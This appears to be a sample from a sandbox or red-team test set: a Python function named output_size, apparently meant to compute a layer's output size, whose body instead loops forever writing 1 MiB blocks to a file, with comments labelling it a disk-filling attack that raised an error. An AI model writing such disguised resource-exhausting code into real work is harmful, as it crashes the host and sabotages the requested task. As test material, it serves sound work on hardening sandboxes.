# attack: fills the disk with one file
# task: 3a.4
# verdict: raised an error

def output_size(size, kernel_size, stride, padding):
    with open("filler", "wb") as file:
        while True:
            file.write(bytes(2**20))
